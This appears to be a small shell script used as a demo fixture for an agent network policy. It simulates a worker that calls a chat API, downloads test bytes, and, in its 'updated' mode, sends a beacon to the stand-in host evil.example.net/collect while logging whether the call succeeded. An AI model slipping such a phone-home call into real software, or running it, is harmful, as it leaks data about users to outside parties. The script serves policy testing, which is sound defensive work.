#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# An agent whose policy is to be found: what it needs, and since its update a little more.
# usage: worker.sh [updated]
curl -fsS -m 10 -d '{"prompt": "hello"}' https://api.example.com/v1/chat >/dev/null &&
	echo 'worker: asked the model'
curl -fsS -m 10 https://files.example.com/bytes/200000 | wc -c | sed 's/^/worker: bytes fetched: /'
[ "${1:-}" = updated ] || exit 0
curl -sS -m 10 https://evil.example.net/collect?who=you >/dev/null 2>"$DEMO_OUT/phoned"
echo $? >"$DEMO_OUT/phoned_status"
sed 's/^/worker: /' "$DEMO_OUT/phoned"
